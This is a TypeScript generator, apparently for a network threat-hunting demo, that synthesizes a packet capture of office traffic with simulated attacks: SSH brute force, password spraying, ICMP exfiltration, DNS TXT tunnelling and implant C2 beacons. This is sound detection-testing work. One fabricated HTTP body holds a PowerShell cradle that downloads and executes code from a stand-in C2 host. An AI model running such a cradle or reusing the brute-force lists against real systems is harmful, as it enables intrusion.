// The demo capture: a few hours of an office network's ordinary traffic (DNS, web over HTTP and TLS, SMB
// logons with NTLM, SSH administration, ICMP, internet visitors of the public web server) ending at a
// given time (plus FTP transfers), with the attacks each hunting query of the seed document looks for inside its last hour.
// Everything is real protocol bytes in TCP/UDP/ICMP sessions built by src/synth; the same seed and end
// time give the same capture, byte for byte.

import { Rng } from '../synth/rng.js';
import { ipBytes, macFor } from '../synth/packets.js';
import { Scheduler } from '../synth/scheduler.js';
import { IcmpEchoSeries, TcpSession, UdpExchange, type Message } from '../synth/sessions.js';
import type { PacketSink } from '../synth/pcap-writer.js';
import { dnsQuery, dnsResponse, QTYPE, type DnsAnswer } from './proto/dns.js';
import { htmlBody, httpRequest, httpResponse, peBody, pngBody } from './proto/http.js';
import { appData, clientFinish, clientHello, serverFinish, serverFlight } from './proto/tls.js';
import { buildCertificate } from './proto/x509.js';
import {
  AUTH_SIZES, CLIENT_KEX, SERVER_KEX, ecdhInit, ecdhReplyAndNewKeys, ed25519FromSeed, encrypted, kexInit, newKeys,
} from './proto/ssh.js';
import { smbNtlmLogon, type NtlmServerNames } from './proto/smb.js';
import { ftpConversation, ftpLine, type FtpTransfer } from './proto/ftp.js';
import {
  ACTORS, DEVICES, DNS_SERVER, DOMAIN, GATEWAY, NB_DOMAIN, SITES, USER_AGENTS, VISITORS, device, type DemoDevice,
} from './network.js';

export interface DemoOptions {
  /** Time of the end of the capture, ms since the epoch. The attacks fall in its last hour. */
  endMs: number;
  /** PRNG seed (default 1). */
  seed?: number;
  /** Length of the capture in hours (default 3). */
  hours?: number;
}

export interface DemoStats {
  startMs: number;
  endMs: number;
  sessions: number;
  /** Sessions per kind (ordinary traffic and each attack). */
  kinds: Record<string, number>;
}

const SEC = 1_000_000;
const MIN = 60 * SEC;

export const TRICK_UA = 'TrickXYZ';
export const SPRAY_USERS = ['administrator', 'admin', 'backup', 'svc_sql', 'jsmith', 'helpdesk'] as const;
export const SSH_BRUTE_CONNECTIONS = 24;
export const SSH_BRUTE_PASSWORDS_PER_CONNECTION = 5;
export const PING_SWEEP_TARGETS = 30;
export const EXFIL = { count: 600, intervalUs: 250_000, payload: 1024 } as const;
export const SELF_SIGNED_CONNECTIONS = 3;
export const TXT_LOOKUPS = 6;
export const EXE_URIS = ['/dl/svchost-update.exe', '/dl/wininet32.dll', '/dl/stage2.ps1'] as const;

const SSH_SERVER_BANNER = 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10';
const SSH_ADMIN_BANNER = 'SSH-2.0-OpenSSH_9.6';
const SSH_BRUTE_BANNER = 'SSH-2.0-libssh2_1.10.0';
const SSH_METHODS = 'publickey,password';

const GATEWAY_MAC = macFor(ipBytes(GATEWAY));

/** The MAC an address's frames carry on the office segment: its own, or the router's for the internet. */
function macOn(ip: string): Buffer {
  return ip.startsWith('10.') ? macFor(ipBytes(ip)) : GATEWAY_MAC;
}

class Gen {
  readonly rng: Rng;
  readonly sched: Scheduler;
  readonly startUs: number;
  readonly endUs: number;
  readonly kinds: Record<string, number> = {};
  private readonly ports = new Map<string, number>();
  private readonly certs = new Map<string, Buffer[]>();
  private readonly caCert: Buffer;
  private readonly hostKeys = new Map<string, ReturnType<typeof ed25519FromSeed>>();
  private sessions = 0;

  constructor(sink: PacketSink, o: DemoOptions) {
    this.rng = new Rng(o.seed ?? 1);
    this.sched = new Scheduler(sink);
    this.endUs = Math.round(o.endMs) * 1000;
    this.startUs = this.endUs - Math.round((o.hours ?? 3) * 60 * MIN);
    const startMs = this.startUs / 1000;
    this.caCert = buildCertificate({
      serial: Buffer.from('0a1b2c3d4e5f6071', 'hex'),
      issuer: [['C', 'US'], ['O', 'Demo Trust Services'], ['CN', 'Demo Web CA 1']],
      subject: [['C', 'US'], ['O', 'Demo Trust Services'], ['CN', 'Demo Web CA 1']],
      notBefore: startMs - 400 * 86400_000,
      notAfter: startMs + 3000 * 86400_000,
      ca: true,
    });
  }

  get stats(): { sessions: number } {
    return { sessions: this.sessions };
  }

  count(kind: string): void {
    this.kinds[kind] = (this.kinds[kind] ?? 0) + 1;
    this.sessions++;
  }

  /** A fresh ephemeral port of `ip` (no 4-tuple is reused within the capture). */
  port(ip: string): number {
    const n = this.ports.get(ip) ?? this.rng.int(0, 8000);
    this.ports.set(ip, n + 1);
    return 49152 + (n % 16000);
  }

  chain(host: string, selfSigned = false): Buffer[] {
    let c = this.certs.get(host);
    if (!c) {
      const startMs = this.startUs / 1000;
      const serial = this.rng.fill(Buffer.alloc(16));
      serial[0] = serial[0]! & 0x7f;
      if (selfSigned) {
        const n: [string, string][] = [['CN', host]];
        c = [buildCertificate({ serial, issuer: n, subject: n, notBefore: startMs - 2 * 86400_000, notAfter: startMs + 363 * 86400_000, dnsNames: [host] })];
      } else {
        c = [buildCertificate({
          serial,
          issuer: [['C', 'US'], ['O', 'Demo Trust Services'], ['CN', 'Demo Web CA 1']],
          subject: [['C', 'US'], ['O', 'Demo Sites'], ['CN', host]],
          notBefore: startMs - 60 * 86400_000,
          notAfter: startMs + 300 * 86400_000,
          dnsNames: [host],
        }), this.caCert];
      }
      this.certs.set(host, c);
    }
    return c;
  }

  hostKey(server: string): ReturnType<typeof ed25519FromSeed> {
    let k = this.hostKeys.get(server);
    if (!k) {
      k = ed25519FromSeed(this.rng.fill(Buffer.alloc(32)));
      this.hostKeys.set(server, k);
    }
    return k;
  }

  tcp(kind: string, client: string, server: string, dport: number, startUs: number, messages: Message[], rttUs: number, close: 'fin' | 'rst' = 'fin', handshake: 'full' | 'rejected' | 'unanswered' = 'full'): void {
    this.count(kind);
    this.sched.add(new TcpSession({
      client: { ip: client, port: this.port(client), mac: macOn(client) },
      server: { ip: server, port: dport, mac: macOn(server) },
      start: Math.round(startUs),
      messages,
      rtt: rttUs,
      seed: this.rng.u32(),
      close,
      handshake,
    }));
  }

  dns(kind: string, client: string, server: string, startUs: number, qname: string, qtype: number, answers: DnsAnswer[], rcode = 0): void {
    this.count(kind);
    const id = this.rng.int(1, 0xffff);
    this.sched.add(new UdpExchange({
      client: { ip: client, port: this.port(client), mac: macOn(client) },
      server: { ip: server, port: 53, mac: macOn(server) },
      start: Math.round(startUs),
      messages: [
        { from: 'client', data: dnsQuery(id, qname, qtype) },
        { from: 'server', data: dnsResponse(id, qname, qtype, answers, rcode) },
      ],
      rtt: server === DNS_SERVER ? 1500 : 30000,
      seed: this.rng.u32(),
    }));
  }

  ping(kind: string, client: string, server: string, startUs: number, count: number, intervalUs: number, payload?: Buffer, reply = true): void {
    this.count(kind);
    this.sched.add(new IcmpEchoSeries({
      client: { ip: client, mac: macOn(client) },
      server: { ip: server, mac: macOn(server) },
      start: Math.round(startUs),
      count,
      interval: intervalUs,
      payload,
      reply,
      rtt: server.startsWith('10.') ? 800 : 25000,
      seed: this.rng.u32(),
    }));
  }

  // ---- application exchanges ----

  httpMessages(host: string, reqs: { uri: string; ua: string; body: Buffer; type?: string; status?: number }[], tUs: number): Message[] {
    const out: Message[] = [];
    for (const r of reqs) {
      out.push({ from: 'client', data: httpRequest({ uri: r.uri, host, userAgent: r.ua }), delay: out.length ? this.rng.int(200_000, 3 * SEC) : 0 });
      out.push({
        from: 'server',
        data: httpResponse({ status: r.status, body: r.body, contentType: r.type, date: new Date(tUs / 1000).toUTCString() }),
        delay: this.rng.int(2000, 40000),
      });
    }
    return out;
  }

  tlsMessages(host: string, chain: Buffer[], exchanges: number): Message[] {
    const rng = this.rng;
    const out: Message[] = [
      { from: 'client', data: clientHello(rng, host) },
      { from: 'server', data: serverFlight(rng, chain), delay: rng.int(1000, 8000) },
      { from: 'client', data: clientFinish(rng) },
      { from: 'server', data: serverFinish(rng) },
    ];
    for (let i = 0; i < exchanges; i++) {
      out.push({ from: 'client', data: appData(rng, rng.int(200, 900)), delay: i ? rng.int(100_000, 4 * SEC) : 0 });
      out.push({ from: 'server', data: appData(rng, Math.round(rng.logNormal(8.5, 1))), delay: rng.int(5000, 60000) });
    }
    return out;
  }

  sshMessages(server: string, clientBanner: string, user: string, passwords: readonly string[], success: boolean): Message[] {
    const rng = this.rng;
    const host = this.hostKey(server);
    const out: Message[] = [
      { from: 'server', data: Buffer.from(`${SSH_SERVER_BANNER}\r\n`, 'latin1') },
      { from: 'client', data: Buffer.from(`${clientBanner}\r\n`, 'latin1') },
      { from: 'client', data: kexInit(rng, CLIENT_KEX) },
      { from: 'server', data: kexInit(rng, SERVER_KEX) },
      { from: 'client', data: ecdhInit(rng) },
      { from: 'server', data: ecdhReplyAndNewKeys(rng, host), delay: 2000 },
      { from: 'client', data: newKeys(rng) },
      { from: 'client', data: encrypted(rng, AUTH_SIZES.serviceRequest) },
      { from: 'server', data: encrypted(rng, AUTH_SIZES.serviceAccept) },
      { from: 'client', data: encrypted(rng, AUTH_SIZES.noneRequest(user)) },
      { from: 'server', data: encrypted(rng, AUTH_SIZES.failure(SSH_METHODS)) },
    ];
    passwords.forEach((pw, i) => {
      const last = i === passwords.length - 1;
      out.push({ from: 'client', data: encrypted(rng, AUTH_SIZES.passwordRequest(user, pw)), delay: success ? rng.int(1 * SEC, 4 * SEC) : rng.int(50_000, 300_000) });
      if (success && last) out.push({ from: 'server', data: encrypted(rng, AUTH_SIZES.success), delay: 30000 });
      else out.push({ from: 'server', data: encrypted(rng, AUTH_SIZES.failure(SSH_METHODS)), delay: rng.int(1_800_000, 2_600_000) });
    });
    if (success) {
      // Session: channel open, pty, shell, then interactive keystrokes and output.
      const n = rng.int(8, 30);
      for (let i = 0; i < n; i++) {
        out.push({ from: 'client', data: encrypted(rng, rng.int(9, 60)), delay: rng.int(300_000, 6 * SEC) });
        out.push({ from: 'server', data: encrypted(rng, rng.int(30, 1400)), delay: rng.int(2000, 30000) });
      }
    }
    return out;
  }

  /**
   * An FTP session in passive mode: the control connection, and the data connection opened after the 150
   * reply and finished before the 226 (times bounded from the session builder's pacing).
   */
  ftp(kind: string, client: string, startUs: number, t: Omit<FtpTransfer, 'size'>, body: Buffer, rttUs: number): void {
    const tr: FtpTransfer = { ...t, size: body.length };
    const conv = ftpConversation(tr);
    const msgs: Message[] = [];
    let delays = 0;
    for (const [from, line] of conv.before) {
      const delay = from === 'client' ? this.rng.int(20_000, 400_000) : this.rng.int(300, 3000);
      delays += delay;
      msgs.push({ from, data: ftpLine(line), delay });
    }
    // Upper bound of the 150 reply's time: per message its delay, at most one RTT and a few µs.
    const t150 = startUs + rttUs + delays + conv.before.length * (rttUs + 100);
    const dataStart = t150 + 20_000;
    conv.after.forEach(([from, line], i) => msgs.push({ from, data: ftpLine(line), delay: i === 0 ? 20_000 + 8 * rttUs + 1_500_000 : this.rng.int(50_000, 300_000) }));
    this.tcp(kind, client, t.serverIp, 21, startUs, msgs, rttUs);
    const data: Message[] = [{ from: t.command === 'RETR' ? 'server' : 'client', data: body }];
    this.tcp(`${kind}-data`, client, t.serverIp, t.dataPort, dataStart, data, rttUs);
  }

  smbMessages(serverName: string, user: string, workstation: string, domain: string, success: boolean, tUs: number): Message[] {
    const names: NtlmServerNames = {
      nbDomain: NB_DOMAIN,
      nbComputer: serverName.toUpperCase(),
      dnsDomain: DOMAIN,
      dnsComputer: `${serverName}.${DOMAIN}`,
      dnsTree: DOMAIN,
    };
    const pairs = smbNtlmLogon(this.rng, {
      nowMs: tUs / 1000,
      serverGuid: this.rng.fill(Buffer.alloc(16)),
      sessionId: BigInt(this.rng.u32()) << 12n | 0x1000000000001n,
      names,
      domain,
      user,
      workstation,
      success,
    });
    const out: Message[] = [];
    for (const [c, s] of pairs) {
      out.push({ from: 'client', data: c, delay: out.length ? this.rng.int(500, 5000) : 0 });
      out.push({ from: 'server', data: s, delay: this.rng.int(300, 3000) });
    }
    return out;
  }
}

/** Sorted times in [from, to) of a Poisson-ish process with the given mean gap. */
function times(rng: Rng, fromUs: number, toUs: number, meanGapUs: number): number[] {
  const out: number[] = [];
  for (let t = fromUs + rng.exp(meanGapUs); t < toUs; t += rng.exp(meanGapUs)) out.push(Math.round(t));
  return out;
}

function userOf(d: DemoDevice): string {
  return d.name.replace(/^ws-/, '');
}

/** Writes the demo capture to `sink` (timestamps in order). */
export function generateDemo(sink: PacketSink, o: DemoOptions): DemoStats {
  const g = new Gen(sink, o);
  const rng = g.rng;
  const { startUs, endUs } = g;
  const quietEnd = endUs - 2 * MIN;
  const workstations = DEVICES.filter((d) => d.role === 'workstation');
  const fs01 = device('fs01');
  const web01 = device('web01');
  const dns01 = device('dns01');
  const admin = device('it-admin01');

  // ---- ordinary traffic ----
  workstations.forEach((w, wi) => {
    const ua = USER_AGENTS[wi % 3]!;
    for (const t of times(rng, startUs, quietEnd, 5 * MIN)) {
      const site = rng.pick(SITES);
      g.dns('dns', w.ip, DNS_SERVER, t, site.host, QTYPE.A, [{ type: 'A', addr: site.ip, ttl: rng.int(60, 3600) }]);
      const t2 = t + rng.int(3000, 20000);
      if (site.tls) {
        g.tcp('tls', w.ip, site.ip, 443, t2, g.tlsMessages(site.host, g.chain(site.host), rng.int(1, 4)), rng.int(15000, 60000));
      } else {
        const n = rng.int(1, 3);
        const reqs = [];
        for (let i = 0; i < n; i++) {
          const page = rng.pick(['/', '/index.html', '/news/today', '/static/app.css', '/api/v1/status', '/images/logo.png']);
          const type = page.endsWith('.css') ? 'text/css' : page.endsWith('.png') ? 'image/png' : page.startsWith('/api') ? 'application/json' : undefined;
          const body = type === 'image/png'
            ? pngBody(rng.int(40, 120), rng.int(40, 120), rng.fill(Buffer.alloc(4096)))
            : type === 'application/json' ? Buffer.from(`{"status":"ok","ts":${Math.floor(t / SEC)}}`) : htmlBody(site.host, rng.int(1500, 25000));
          reqs.push({ uri: page, ua: site.host.startsWith('ocsp') || site.host.startsWith('ctldl') ? USER_AGENTS[3]! : ua, body, type });
        }
        g.tcp('http', w.ip, site.ip, 80, t2, g.httpMessages(site.host, reqs, t2), rng.int(15000, 60000));
      }
    }
    // Internal name lookups, TXT included (answered by the configured resolver: not a finding).
    for (const t of times(rng, startUs, quietEnd, 20 * MIN)) {
      if (rng.chance(0.3)) g.dns('dns-txt', w.ip, DNS_SERVER, t, DOMAIN, QTYPE.TXT, [{ type: 'TXT', texts: ['v=spf1 include:spf.protection.outlook.com -all'], ttl: 3600 }]);
      else g.dns('dns', w.ip, DNS_SERVER, t, `fs01.${DOMAIN}`, QTYPE.A, [{ type: 'A', addr: fs01.ip, ttl: 1200 }]);
    }
    // File server logons (NTLM over SMB2), successful.
    for (const t of times(rng, startUs, quietEnd, 40 * MIN)) {
      g.tcp('smb', w.ip, fs01.ip, 445, t, g.smbMessages('fs01', userOf(w), w.name.toUpperCase(), NB_DOMAIN, true, t), 800);
    }
  });

  // The admin's SSH sessions to the Linux servers (successful password logins), and a few pings.
  for (const t of times(rng, startUs, quietEnd, 25 * MIN)) {
    const target = rng.chance(0.6) ? web01 : dns01;
    g.tcp('ssh', admin.ip, target.ip, 22, t, g.sshMessages(target.ip, SSH_ADMIN_BANNER, 'itadmin', ['correct horse battery'], true), 900);
  }
  for (const t of times(rng, startUs, quietEnd, 30 * MIN)) {
    g.ping('icmp', admin.ip, rng.chance(0.5) ? GATEWAY : web01.ip, t, 4, SEC);
  }
  // A monitoring ping of a public address from the DNS server, small and short.
  for (const t of times(rng, startUs, quietEnd, 45 * MIN)) g.ping('icmp', dns01.ip, '1.1.1.1', t, 3, SEC);

  // FTP: a workstation downloads a report from a partner's server; the admin uploads a backup to web01.
  for (const t of times(rng, startUs, quietEnd, 60 * MIN)) {
    const w = rng.pick(workstations);
    const body = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'), rng.fill(Buffer.alloc(rng.int(20_000, 120_000)))]);
    g.ftp('ftp', w.ip, t, { user: 'partner', password: 'Spring2026!', command: 'RETR', file: `report-${rng.int(100, 999)}.pdf`, serverIp: '198.51.100.21', dataPort: rng.int(40000, 50000) }, body, 40_000);
  }
  for (const t of times(rng, startUs, quietEnd, 70 * MIN)) {
    const body = Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), rng.fill(Buffer.alloc(rng.int(50_000, 200_000)))]);
    g.ftp('ftp', admin.ip, t, { user: 'backup', password: 'b4ckup-Op5', command: 'STOR', file: `www-${rng.int(1000, 9999)}.tar.gz`, serverIp: web01.ip, dataPort: rng.int(40000, 50000) }, body, 1_000);
  }

  // Connections that fail: RDP to the file server is closed (RST), a retired CDN address never answers.
  for (const t of times(rng, startUs, quietEnd, 30 * MIN)) {
    const w = rng.pick(workstations);
    if (rng.chance(0.5)) g.tcp('tcp-rejected', w.ip, fs01.ip, 3389, t, [], 800, 'fin', 'rejected');
    else g.tcp('tcp-unanswered', w.ip, '192.0.2.200', 443, t, [], 30000, 'fin', 'unanswered');
  }

  // Internet visitors of web01.
  for (const t of times(rng, startUs, quietEnd, 4 * MIN)) {
    const v = rng.pick(VISITORS);
    if (rng.chance(0.5)) {
      g.tcp('http-in', v, web01.ip, 80, t, g.httpMessages('www.contoso-shop.com', [{ uri: rng.pick(['/', '/products', '/cart', '/about']), ua: rng.pick(USER_AGENTS.slice(0, 3)), body: htmlBody('Contoso Shop', rng.int(3000, 30000)) }], t), rng.int(20000, 120000));
    } else {
      g.tcp('tls-in', v, web01.ip, 443, t, g.tlsMessages('www.contoso-shop.com', g.chain('www.contoso-shop.com'), rng.int(1, 5)), rng.int(20000, 120000));
    }
  }

  // ---- attacks (all within the last hour) ----
  const trick = device(ACTORS.trick);
  const icmpHost = device(ACTORS.icmp);

  // SSH brute force against web01 from the internet (T1110).
  const bruteUsers = ['root', 'root', 'admin', 'ubuntu', 'root', 'test', 'oracle', 'root'];
  for (let i = 0; i < SSH_BRUTE_CONNECTIONS; i++) {
    const t = endUs - 55 * MIN + i * 20 * SEC;
    const pws = Array.from({ length: SSH_BRUTE_PASSWORDS_PER_CONNECTION }, () => rng.pick(['123456', 'password', 'admin', 'qwerty', 'letmein', 'root', 'P@ssw0rd', 'changeme', 'toor', '1q2w3e4r']));
    g.tcp('attack-ssh-brute', ACTORS.sshAttacker, web01.ip, 22, t, g.sshMessages(web01.ip, SSH_BRUTE_BANNER, bruteUsers[i % bruteUsers.length]!, pws, false), 70000);
  }

  // TrickXYZ implant: C2 beacons and executable downloads over HTTP (T1071.001, T1105).
  const c2Name = 'update.trk-gate.top';
  g.dns('attack-trick', trick.ip, DNS_SERVER, endUs - 50 * MIN, c2Name, QTYPE.A, [{ type: 'A', addr: ACTORS.c2Http, ttl: 300 }]);
  for (let i = 0; i < 8; i++) {
    const t = endUs - 50 * MIN + 2 * SEC + i * 5 * MIN;
    const id = rng.fill(Buffer.alloc(6)).toString('hex');
    g.tcp('attack-trick', trick.ip, ACTORS.c2Http, 80, t, g.httpMessages(c2Name, [{ uri: `/gate.php?id=${id}`, ua: TRICK_UA, body: Buffer.from('OK'), type: 'text/plain' }], t), 80000);
  }
  EXE_URIS.forEach((uri, i) => {
    const t = endUs - 44 * MIN + i * 40 * SEC;
    const type = uri.endsWith('.ps1') ? 'text/plain' : 'application/octet-stream';
    const body = uri.endsWith('.ps1')
      ? Buffer.from(`$c = New-Object Net.WebClient\n$c.Headers.Add('User-Agent','${TRICK_UA}')\nIEX $c.DownloadString('http://${c2Name}/gate.php')\n`)
      : peBody(rng.fill(Buffer.alloc(rng.int(40000, 90000))));
    g.tcp('attack-download', trick.ip, ACTORS.c2Http, 80, t, g.httpMessages(c2Name, [{ uri, ua: TRICK_UA, body, type }], t), 80000);
  });

  // TLS to a public address presenting a self-signed certificate.
  g.dns('attack-tls', trick.ip, DNS_SERVER, endUs - 40 * MIN, ACTORS.c2TlsName, QTYPE.A, [{ type: 'A', addr: ACTORS.c2Tls, ttl: 300 }]);
  for (let i = 0; i < SELF_SIGNED_CONNECTIONS; i++) {
    const t = endUs - 40 * MIN + 1 * SEC + i * 7 * MIN;
    g.tcp('attack-tls', trick.ip, ACTORS.c2Tls, 443, t, g.tlsMessages(ACTORS.c2TlsName, g.chain(ACTORS.c2TlsName, true), 2), 90000);
  }

  // TXT lookups sent straight to a resolver no device is configured with (DNS tunnelling / C2).
  for (let i = 0; i < TXT_LOOKUPS; i++) {
    const t = endUs - 38 * MIN + i * 3 * MIN;
    const label = rng.fill(Buffer.alloc(8)).toString('hex');
    const cmd = rng.fill(Buffer.alloc(48)).toString('base64');
    g.dns('attack-txt', trick.ip, ACTORS.rogueResolver, t, `${label}.${ACTORS.txtDomain}`, QTYPE.TXT, [{ type: 'TXT', texts: [cmd], ttl: 0 }]);
  }

  // ICMP tunnel: ~600 KB out in echo requests over 150 s (T1048).
  g.ping('attack-icmp-exfil', icmpHost.ip, ACTORS.icmpSink, endUs - 35 * MIN, EXFIL.count, EXFIL.intervalUs, rng.fill(Buffer.alloc(EXFIL.payload)));

  // Ping sweep of the office subnet (T1018).
  const live = new Set([GATEWAY, ...DEVICES.map((d) => d.ip)]);
  for (let i = 0; i < PING_SWEEP_TARGETS; i++) {
    const target = `10.20.0.${i + 1}`;
    if (target === icmpHost.ip) continue;
    g.ping('attack-ping-sweep', icmpHost.ip, target, endUs - 25 * MIN + i * 300_000, 1, SEC, undefined, live.has(target));
  }

  // NTLM password spraying over SMB2 against the internet-facing server.
  SPRAY_USERS.forEach((user, i) => {
    const t = endUs - 15 * MIN + i * 9 * SEC;
    g.tcp('attack-ntlm-spray', ACTORS.sprayer, web01.ip, 445, t, g.smbMessages('web01', user, 'KALI', '', false, t), 60000);
  });

  g.sched.run();
  return { startMs: startUs / 1000, endMs: endUs / 1000, sessions: g.stats.sessions, kinds: g.kinds };
}
